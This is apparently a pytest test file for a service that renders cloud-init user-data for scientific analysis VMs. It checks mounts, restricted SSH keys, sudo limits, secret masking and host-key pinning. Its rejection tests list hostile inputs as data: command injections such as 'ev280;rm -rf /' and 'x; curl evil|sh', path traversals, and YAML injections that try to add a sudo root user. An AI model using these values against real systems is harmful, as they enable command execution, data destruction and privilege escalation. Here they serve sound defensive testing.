"""Rendered user-data: valid for cloud-init, for every image, with 0, 1 and many experiments."""

from __future__ import annotations

import json
import logging
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from cryptography.hazmat.primitives import serialization

from tests.provisioning.cloudinit import cloud_config_part, validate
from tests.provisioning.factories import (
    NOW,
    SECRET,
    boot,
    make_experiment,
    make_image,
    make_instance,
    make_user,
)
from visa.errors import Forbidden, InvalidInput
from visa.provisioning import host_keys, readiness_ports, render_metadata, render_user_data
from visa.provisioning.mounts import home_mount
from visa.settings import ProvisioningSettings

PROBE_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGZha2Vwcm9iZWtleWZvcnRlc3RzMDEyMzQ1Njc4OQ visa@scheduler"
CATALOGUE = Path(__file__).resolve().parents[2] / "images"


def _catalogue() -> dict[str, dict[str, Any]]:
    """The images of the catalogue (images/*.yaml): protocols and options are what matter here."""
    images = {}
    for path in sorted(CATALOGUE.glob("*.yaml")):
        spec = yaml.safe_load(path.read_text())
        images[spec["name"]] = {"protocols": spec["protocols"], "options": spec.get("options") or {}}
    return images


IMAGES = _catalogue()


def _files(config: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {f["path"]: f for f in config["write_files"]}


@pytest.fixture
def site() -> ProvisioningSettings:
    return ProvisioningSettings()


@pytest.mark.parametrize("image_name", sorted(IMAGES))
@pytest.mark.parametrize("experiment_count", [0, 1, 4])
@pytest.mark.parametrize("with_open_data", [False, True], ids=["own-data", "open-data"])
def test_every_image_renders_valid_cloud_config(
    session, tmp_path, site, image_name: str, experiment_count: int, with_open_data: bool
) -> None:
    assert IMAGES, "the catalogue (images/*.yaml) has no images"
    owner = make_user(session, "alice", uid_number=21001, gid_number=1200, home_path="/home/alice")
    image = make_image(session, image_name, IMAGES[image_name]["protocols"], IMAGES[image_name]["options"])
    beamlines = ["id21", "id16a", "bm05", "id19"]
    experiments = [
        make_experiment(session, f"ev{280 + i}", beamlines[i], members=[owner])
        for i in range(experiment_count)
    ]
    open_data = []
    if with_open_data:
        open_data = [make_experiment(session, "hc4321", "id11", public_at=NOW - timedelta(days=1))]
    instance = make_instance(session, owner, image, experiments)

    user_data = render_user_data(boot(instance, open_data), site=site, probe_public_key=PROBE_KEY)
    config = validate(user_data, tmp_path)

    targets = {m[1]: m for m in config.get("mounts", [])}
    assert len(targets) == 2 * experiment_count + (1 if with_open_data else 0)
    for exp in experiments:
        raw = targets[f"/data/visitor/{exp.proposal.identifier}/{exp.instrument.name}"]
        processed = targets[f"/data/processed/{exp.proposal.identifier}/{exp.instrument.name}"]
        assert raw[3].startswith("ro,") and processed[3].startswith("rw,")
    if with_open_data:
        assert targets["/data/visitor/hc4321/id11"][3].startswith("ro,")
        assert "/data/processed/hc4321/id11" not in targets

    owner_account = config["users"][0]
    assert owner_account["name"] == "alice" and owner_account["uid"] == 21001
    assert owner_account["lock_passwd"] is True and config["ssh_pwauth"] is False
    assert "passwd" not in owner_account
    # visa's key may reach the owner's account only to run sftp-server (file transfers).
    assert all(k.startswith('restrict,command="') and "sftp-server" in k.split('"')[1]
               for k in owner_account.get("ssh_authorized_keys", []))
    probe = config["users"][1]
    assert probe["name"] == "visa" and probe["ssh_authorized_keys"][0].endswith(PROBE_KEY)
    assert probe["ssh_authorized_keys"][0].startswith('restrict,command="/usr/local/libexec/visa/probe" ')
    # As the owner, the probe may read the X idle time and the Jupyter kernels' states, nothing else.
    assert probe["sudo"] == "ALL=(alice) NOPASSWD: /usr/local/libexec/visa/x-idle, /usr/local/libexec/visa/jupyter-kernels"

    files = _files(config)
    assert files["/usr/local/libexec/visa/jupyter-kernels"]["permissions"] == "0755"
    options = IMAGES[image_name]["options"]
    cvmfs = files["/etc/cvmfs/default.local"]["content"]
    for repo in ["software.esrf.fr", "software.eessi.io", *options.get("cvmfs_repositories", [])]:
        assert repo in cvmfs
    assert "/etc/auto.master.d/cvmfs.autofs" in files
    assert ("/etc/profile.d/visa-apptainer.sh" in files) == bool(options.get("apptainer"))

    protocols = {p["protocol"]: p["port"] for p in IMAGES[image_name]["protocols"]}
    enable = config["runcmd"][-1]
    # Run through the step wrapper, which says on the console when it fails.
    assert enable[:5] == ["/usr/local/libexec/visa/step", "desktop-start", "systemctl", "enable", "--now"]
    assert ("visa-desktop.service" in enable) == ("VNC" in protocols)
    assert ("visa-jupyter.service" in enable) == ("JUPYTER" in protocols)
    env = files["/etc/visa/instance.env"]["content"]
    if "JUPYTER" in protocols:
        assert f"VISA_JUPYTER_BASE_URL=/jupyter/{instance.uid}/" in env
        assert f"VISA_JUPYTER_PORT={protocols['JUPYTER']}" in env
        # Idle kernels culled after the site's time (busy ones never are).
        jupyter = json.loads(files["/etc/visa/jupyter_server_config.json"]["content"])
        assert jupyter["MappingKernelManager"] == {
            "cull_idle_timeout": site.jupyter_cull_idle_seconds, "cull_interval": site.jupyter_cull_interval_seconds,
            "cull_connected": False,
        }
    if "VNC" in protocols:
        assert f"VISA_VNC_PORT={protocols['VNC']}" in env and "VISA_GEOMETRY=1280x800" in env
        assert files["/etc/visa/desktop.secret"]["permissions"] == "0600"
    for package in options.get("packages", []):
        assert package in config["packages"]


def test_screen_keyboard_and_session_come_from_the_instance(session, tmp_path, site) -> None:
    owner = make_user(session, "bob")
    image = make_image(session, "desktop", options={"desktop_session": "mate"})
    instance = make_instance(
        session, owner, image, screen_width=1920, screen_height=1080, keyboard_layout="fr-ch-qwertz"
    )
    config = validate(render_user_data(boot(instance), site=site), tmp_path)
    env = _files(config)["/etc/visa/instance.env"]["content"]
    assert "VISA_GEOMETRY=1920x1080" in env
    assert "VISA_XKB_LAYOUT=ch\n" in env and "VISA_XKB_VARIANT=fr\n" in env
    assert "VISA_SESSION=mate-session" in env
    # No uid/gid from the account source: the system picks them; home from the site default.
    assert "uid" not in config["users"][0] and config["users"][0]["homedir"] == "/home/bob"
    assert "bootcmd" not in config
    # No probe key given anywhere: no probe account.
    assert [u["name"] for u in config["users"]] == ["bob"]


def test_ready_ports_are_the_required_protocols(session) -> None:
    owner = make_user(session)
    image = make_image(
        session,
        "desktop",
        [{"protocol": "VNC", "port": 5901}, {"protocol": "JUPYTER", "port": 8888, "optional": True}],
    )
    instance = make_instance(session, owner, image)
    assert readiness_ports(boot(instance)) == {"VNC": 5901}
    assert render_metadata(boot(instance))["visa_ready_ports"] == "VNC:5901"


def test_boot_script_makes_multipart_user_data(session, tmp_path, site) -> None:
    owner = make_user(session)
    image = make_image(session, "bliss", options={"boot_script": "#!/bin/sh\necho bliss ready\n"})
    instance = make_instance(session, owner, image)
    user_data = render_user_data(boot(instance), site=site)
    assert user_data.startswith("Content-Type: multipart/mixed")
    assert "text/x-shellscript" in user_data
    validate(user_data, tmp_path)
    assert render_user_data(boot(instance), site=site) == user_data  # stable output


def test_bind_mounts_for_the_local_provider(session, tmp_path) -> None:
    site = ProvisioningSettings(
        mount_type="bind",
        raw_mount_template="/srv/visa/raw/{proposal}/{beamline}",
        processed_mount_template="/srv/visa/processed/{proposal}/{beamline}",
    )
    owner = make_user(session)
    instance = make_instance(session, owner, make_image(session), [make_experiment(session, members=[owner])])
    config = validate(render_user_data(boot(instance), site=site), tmp_path)
    assert config["mounts"][0][:4] == [
        "/srv/visa/raw/ev280/id21",
        "/data/visitor/ev280/id21",
        "none",
        "bind,ro,nofail",
    ]
    assert config["mounts"][1][3] == "bind,rw,nofail"


def test_ceph_mounts(session, tmp_path) -> None:
    site = ProvisioningSettings(
        mount_type="ceph", raw_mount_template="mon1.esrf.fr:6789:/volumes/visitor/{proposal}/{beamline}"
    )
    owner = make_user(session)
    instance = make_instance(session, owner, make_image(session), [make_experiment(session, members=[owner])])
    config = validate(render_user_data(boot(instance), site=site), tmp_path)
    assert config["mounts"][0][2] == "ceph" and "secretfile=/etc/ceph/visa.secret" in config["mounts"][0][3]


def test_nothing_of_an_experiment_the_owner_is_not_a_member_of(session, tmp_path, site) -> None:
    owner = make_user(session, "alice")
    other = make_user(session, "mallory", uid_number=31337, home_path="/home/mallory")
    mine = make_experiment(session, "ev280", "id21", members=[owner])
    theirs = make_experiment(session, "ma9999", "id16a", members=[other])
    instance = make_instance(session, owner, make_image(session), [mine, theirs])
    user_data = render_user_data(boot(instance), site=site, probe_public_key=PROBE_KEY)
    validate(user_data, tmp_path)
    for leaked in ["ma9999", "id16a", "mallory", "31337"]:
        assert leaked not in user_data


def test_open_data_under_embargo_is_refused(session, site) -> None:
    owner = make_user(session)
    closed = make_experiment(session, "hc1111", "id11", public_at=NOW + timedelta(days=30))
    never = make_experiment(session, "hc2222", "id11", public_at=None)
    instance = make_instance(session, owner, make_image(session))
    for experiment in (closed, never):
        with pytest.raises(Forbidden) as err:
            render_user_data(boot(instance, [experiment]), site=site)
        assert err.value.field == "open_data"
    # Asked as a whole proposal: every experiment of it, read-only.
    public = make_experiment(session, "hc3333", "id11", public_at=NOW - timedelta(days=1))
    make_experiment(session, "hc3333", "bm05")
    config = yaml.safe_load(
        cloud_config_part(render_user_data(boot(instance, [public.proposal]), site=site))
    )
    assert [m[1] for m in config["mounts"]] == ["/data/visitor/hc3333/id11", "/data/visitor/hc3333/bm05"]
    assert all(m[3].startswith("ro,") for m in config["mounts"])


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("proposal", "../etc"),
        ("proposal", "ev/280"),
        ("proposal", "ev 280"),
        ("proposal", "ev280;rm -rf /"),
        ("proposal", "ev280$(id)"),
        ("proposal", "ev280\n- evil: yes"),
        ("beamline", ".."),
        ("beamline", "id21/../../root"),
        ("beamline", "id21 `reboot`"),
        ("beamline", "id21: {a: b}"),
        ("username", "../root"),
        ("username", "al ice"),
        ("username", "alice;id"),
        ("username", "a\nb: c"),
    ],
)
def test_names_that_would_escape_or_break_are_refused(session, site, field: str, value: str) -> None:
    owner = make_user(session, value if field == "username" else "alice")
    experiment = make_experiment(
        session,
        value if field == "proposal" else "ev280",
        value if field == "beamline" else "id21",
        members=[owner],
    )
    instance = make_instance(session, owner, make_image(session), [experiment])
    with pytest.raises(InvalidInput) as err:
        render_user_data(boot(instance), site=site)
    assert err.value.field == field
    assert field in err.value.message


def test_bad_image_options_and_instance_values_are_refused(session, site) -> None:
    owner = make_user(session)
    cases = [
        ({"desktop_session": "kde; reboot"}, {}, "options.desktop_session"),
        ({"packages": ["vim", "x; curl evil|sh"]}, {}, "options.packages"),
        ({"cvmfs_repositories": ["../../etc"]}, {}, "options.cvmfs_repositories"),
        ({"apptainer": "maybe"}, {}, "options.apptainer"),
        ({}, {"keyboard_layout": "fr; reboot"}, "keyboard_layout"),
        ({}, {"screen_width": 100000}, "screen_width"),
        ({}, {"secret": "short"}, "secret"),
    ]
    for n, (options, values, field) in enumerate(cases):
        instance = make_instance(session, owner, make_image(session, f"img{n}", options=options), **values)
        with pytest.raises(InvalidInput) as err:
            render_user_data(boot(instance), site=site)
        assert err.value.field == field, (options, values)
    good = make_instance(session, owner, make_image(session, "good"))
    for key in ["ssh-ed25519 AAAA\nssh-rsa BBBB", 'command="sh" ssh-ed25519 AAAA', "not a key"]:
        with pytest.raises(InvalidInput) as err:
            render_user_data(boot(good), site=site, probe_public_key=key)
        assert err.value.field == "probe_public_key"


def test_yaml_special_characters_in_free_text_stay_data(session, tmp_path, site) -> None:
    owner = make_user(session, "carol", full_name="Carol: {evil: true}\n- name: root\n  sudo: ALL")
    instance = make_instance(session, owner, make_image(session))
    config = validate(render_user_data(boot(instance), site=site), tmp_path)
    assert [u["name"] for u in config["users"]] == ["carol"]
    assert "sudo" not in config["users"][0]
    assert "\n" not in config["users"][0]["gecos"] and ":" not in config["users"][0]["gecos"]


def test_secrets_never_logged_and_metadata_has_none(session, site, caplog) -> None:
    owner = make_user(session)
    instance = make_instance(
        session,
        owner,
        make_image(
            session, "desktop", [{"protocol": "VNC", "port": 5901}, {"protocol": "JUPYTER", "port": 8888}]
        ),
    )
    with caplog.at_level(logging.DEBUG):
        user_data = render_user_data(boot(instance), site=site)
    assert SECRET in user_data  # the machine needs it...
    assert SECRET not in caplog.text  # ...the logs never see it
    assert caplog.text  # something was logged
    assert SECRET not in str(render_metadata(boot(instance)))
    masked = render_user_data(boot(instance), site=site, mask_secrets=True)
    assert SECRET not in masked and "********" in masked


def test_metadata_values_fit_nova(session) -> None:
    owner = make_user(session, uid_number=1000, gid_number=1000, home_path="/home/alice")
    experiments = [make_experiment(session, f"ev{n:04d}", f"bl{n:02d}", members=[owner]) for n in range(60)]
    instance = make_instance(session, owner, make_image(session), experiments)
    metadata = render_metadata(boot(instance))
    assert all(isinstance(v, str) and len(v) <= 255 for v in metadata.values())
    assert metadata["visa_owner"] == "alice" and metadata["visa_uid_number"] == "1000"
    assert metadata["visa_proposals"].startswith("ev0000,ev0001")


def test_user_data_too_large_for_nova_is_refused(session, site) -> None:
    owner = make_user(session)
    experiments = [make_experiment(session, f"ev{n:04d}", "id21", members=[owner]) for n in range(200)]
    instance = make_instance(session, owner, make_image(session), experiments)
    with pytest.raises(InvalidInput) as err:
        render_user_data(boot(instance), site=site)
    assert err.value.field == "experiments"


def test_the_host_key_visa_gives_the_machine_is_the_one_the_probe_pins(session, tmp_path, site) -> None:
    owner = make_user(session)
    instance = make_instance(session, owner, make_image(session))
    secret = "visa-secret-key-for-tests"
    pair = (host_keys.private_openssh(secret, instance.uid), host_keys.public_line(secret, instance.uid))
    config = validate(render_user_data(boot(instance), site=site, host_key=pair), tmp_path)
    # Only visa's key: cloud-init deletes the image's keys and generates none of its own.
    assert config["ssh_deletekeys"] is True and config["ssh_genkeytypes"] == ["ed25519"]
    private = serialization.load_ssh_private_key(config["ssh_keys"]["ed25519_private"].encode(), None)
    public = private.public_key().public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    assert public.decode() == config["ssh_keys"]["ed25519_public"]
    pinned = host_keys.pinned(secret, instance.uid)
    assert config["ssh_keys"]["ed25519_public"] == f"{pinned.get_name()} {pinned.get_base64()}"
    # Another instance, or another visa secret, gives another key; the same inputs the same key.
    assert host_keys.public_line(secret, instance.uid + "x") != pair[1]
    assert host_keys.public_line(secret + "x", instance.uid) != pair[1]
    assert host_keys.public_line(secret, instance.uid) == pair[1]
    # The operator's view masks the private half.
    masked = render_user_data(boot(instance), site=site, host_key=pair, mask_secrets=True)
    assert pair[0] not in masked and "PRIVATE KEY" not in masked


def test_the_owners_groups_reach_the_account(session, tmp_path, site) -> None:
    owner = make_user(session, "alice", uid_number=23456, gid_number=23456, extra_gids=[24001, 24002])
    instance = make_instance(session, owner, make_image(session))
    config = validate(render_user_data(boot(instance), site=site), tmp_path)
    account = config["users"][0]
    assert (account["uid"], account["primary_group"]) == (23456, "alice")
    for gid in (24001, 24002):
        assert f"getent group {gid} >/dev/null || groupadd -g {gid} visa-g{gid}" in config["bootcmd"]
    # Added before anything runs as the owner: the desktop's session has the groups.
    assert config["runcmd"][0] == ["usermod", "-a", "-G", "24001,24002", "alice"]
    assert render_metadata(boot(instance))["visa_groups"] == "24001,24002"
    # The probe's account is never given the owner's groups.
    assert all("groups" not in u for u in config["users"])


def _home_site(**kwargs: Any) -> ProvisioningSettings:
    return ProvisioningSettings(home_mount_template="nfs-home.esrf.fr:/homes/{username}",
                                home_mount_root="nfs-home.esrf.fr:/homes", **kwargs)


def test_a_home_share_is_mounted_at_the_home_and_never_made_or_filled_by_cloud_init(session, tmp_path) -> None:
    owner = make_user(session, "alice", uid_number=23456, gid_number=23456, home_path="/home/alice")
    instance = make_instance(session, owner, make_image(session), [make_experiment(session, members=[owner])])
    config = validate(render_user_data(boot(instance), site=_home_site()), tmp_path)
    home = config["mounts"][0]
    assert home[:3] == ["nfs-home.esrf.fr:/homes/alice", "/home/alice", "nfs"] and home[3].startswith("rw,")
    assert config["users"][0]["no_create_home"] is True
    files = _files(config)
    assert "VISA_HOME_SHARE=1" in files["/etc/visa/instance.env"]["content"]
    steps = [c[1] for c in config["runcmd"] if c[0] == "/usr/local/libexec/visa/step"]
    # The home is checked (and given skel if empty) before anything writes in it.
    assert steps.index("home-setup") < steps.index("desktop-setup")
    assert "/usr/local/libexec/visa/home-setup" in files

    (tmp_path / "plain").mkdir()
    plain = validate(render_user_data(boot(instance), site=ProvisioningSettings()), tmp_path / "plain")
    assert "no_create_home" not in plain["users"][0]
    assert "VISA_HOME_SHARE=0" in _files(plain)["/etc/visa/instance.env"]["content"]


def test_a_home_template_by_uid(session, tmp_path) -> None:
    site = ProvisioningSettings(home_mount_template="/srv/homes/{uid}", home_mount_root="/srv/homes", mount_type="bind")
    owner = make_user(session, "alice", uid_number=23456, gid_number=23456)
    image = make_image(session)
    config = validate(render_user_data(boot(make_instance(session, owner, image)), site=site), tmp_path)
    assert config["mounts"][0][:3] == ["/srv/homes/23456", "/home/alice", "none"]
    nouid = make_user(session, "bob")
    with pytest.raises(InvalidInput, match="no uid") as caught:
        render_user_data(boot(make_instance(session, nouid, image)), site=site)
    assert caught.value.field == "uid_number"


@pytest.mark.parametrize(
    ("template", "root", "words"),
    [
        ("nfs-home.esrf.fr:/homes/{username}/../../etc", "nfs-home.esrf.fr:/homes", "outside"),
        ("nfs-home.esrf.fr:/etc/{username}", "nfs-home.esrf.fr:/homes", "outside"),
        ("other.esrf.fr:/homes/{username}", "nfs-home.esrf.fr:/homes", "outside"),
        ("nfs-home.esrf.fr:/homes{username}", "nfs-home.esrf.fr:/homes", "outside"),
        ("nfs-home.esrf.fr:/homes/shared", "nfs-home.esrf.fr:/homes", "one home per user"),
        ("nfs-home.esrf.fr:/homes/{proposal}", "nfs-home.esrf.fr:/homes", "only {username} and {uid}"),
        ("nfs-home.esrf.fr:/homes/{username}", None, "needs home_mount_root"),
        ("nfs-home.esrf.fr:/homes/{username", "nfs-home.esrf.fr:/homes", "not a template"),
    ],
)
def test_a_home_template_outside_its_root_is_refused(template: str, root: str | None, words: str) -> None:
    from visa.provisioning.sources import check_sources

    with pytest.raises(InvalidInput) as caught:
        check_sources(ProvisioningSettings(home_mount_template=template, home_mount_root=root))
    assert words in caught.value.message and caught.value.field == "provisioning.home_mount_template"


def test_a_home_that_renders_outside_its_root_for_one_user_is_refused_at_render(session) -> None:
    # A cloud's own overrides are copied over the site's settings unvalidated (model_copy): the
    # renderer checks again, for the very user.
    site = ProvisioningSettings().model_copy(update={"home_mount_template": "nfs:/homes/{username}/../x",
                                                     "home_mount_root": "nfs:/homes"})
    owner = make_user(session, "alice", uid_number=23456, gid_number=23456)
    with pytest.raises(InvalidInput) as caught:
        render_user_data(boot(make_instance(session, owner, make_image(session))), site=site)
    assert caught.value.field == "provisioning.home_mount_template"


@pytest.mark.parametrize("home", ["/etc", "/usr/local", "/usr/local/alice", "/root", "/var/lib/alice", "/", "/home"])
def test_a_home_share_is_never_mounted_over_a_system_directory(session, home: str) -> None:
    """A home stored before homes were confined (or written to the database by hand) renders nothing."""
    site = ProvisioningSettings(home_mount_template="/srv/homes/{uid}", home_mount_root="/srv/homes", mount_type="bind")
    owner = make_user(session, "alice", uid_number=23456, gid_number=23456, home_path=home)
    instance = make_instance(session, owner, make_image(session))
    for render_site in (site, ProvisioningSettings()):
        with pytest.raises(InvalidInput, match="system directory|home root") as caught:
            render_user_data(boot(instance), site=render_site)
        assert caught.value.field == "home_path"


def test_a_machine_with_a_home_of_its_own_never_mounts_the_home_share(session, tmp_path) -> None:
    """Members act as the owner in it: what they leave in its home stays in this machine."""
    from visa.instances.models import InstanceHome

    site = ProvisioningSettings(home_mount_template="/srv/homes/{uid}", home_mount_root="/srv/homes", mount_type="bind")
    owner = make_user(session, "alice", uid_number=23456, gid_number=23456)
    instance = make_instance(session, owner, make_image(session), home=InstanceHome.OWN)
    config = validate(render_user_data(boot(instance), site=site), tmp_path)
    assert not any(m[0].startswith("/srv/homes") for m in config.get("mounts", [])), config.get("mounts")
    assert "no_create_home" not in config["users"][0]
    assert "VISA_HOME_SHARE=0" in _files(config)["/etc/visa/instance.env"]["content"]
    assert boot(instance).own_home and home_mount(boot(instance), site=site) is None


def test_an_rdp_image_sets_the_owners_password_to_the_secret_from_a_root_only_file(session, tmp_path, site) -> None:
    """xrdp logs the owner in with the instance secret (what visa's RDP bridge sends): the
    password comes from a root-only file chpasswd reads, removed at once, never a command line;
    SSH still refuses passwords."""
    owner = make_user(session, "bob")
    image = make_image(session, "xrdp", protocols=[{"protocol": "RDP", "port": 3389}])
    config = validate(render_user_data(boot(make_instance(session, owner, image)), site=site), tmp_path)
    password = _files(config)["/etc/visa/rdp.password"]
    assert password["permissions"] == "0600" and password["content"] == f"bob:{SECRET}\n"
    step = next(c for c in config["runcmd"] if "rdp-password" in c)
    assert "chpasswd < /etc/visa/rdp.password" in step[-1] and "rm -f /etc/visa/rdp.password" in step[-1]
    assert SECRET not in json.dumps(config["runcmd"])  # on no command line
    assert config["ssh_pwauth"] is False
    sshd = _files(config)["/etc/ssh/sshd_config.d/00-visa-no-passwords.conf"]["content"]
    assert sshd == "PasswordAuthentication no\nKbdInteractiveAuthentication no\n"
    # sshd refuses passwords before the owner has one.
    assert config["runcmd"].index(["systemctl", "try-reload-or-restart", "ssh"]) < config["runcmd"].index(step)
    assert "VISA_RDP_PORT=3389\n" in _files(config)["/etc/visa/instance.env"]["content"]
    # A VNC image: the account keeps no password.
    vnc = validate(render_user_data(boot(make_instance(session, owner, make_image(session))), site=site), tmp_path)
    assert "/etc/visa/rdp.password" not in _files(vnc)
    assert "/etc/ssh/sshd_config.d/00-visa-no-passwords.conf" not in _files(vnc)
    assert not [c for c in vnc["runcmd"] if "chpasswd" in json.dumps(c)]
    assert "VISA_RDP_PORT=\n" in _files(vnc)["/etc/visa/instance.env"]["content"]
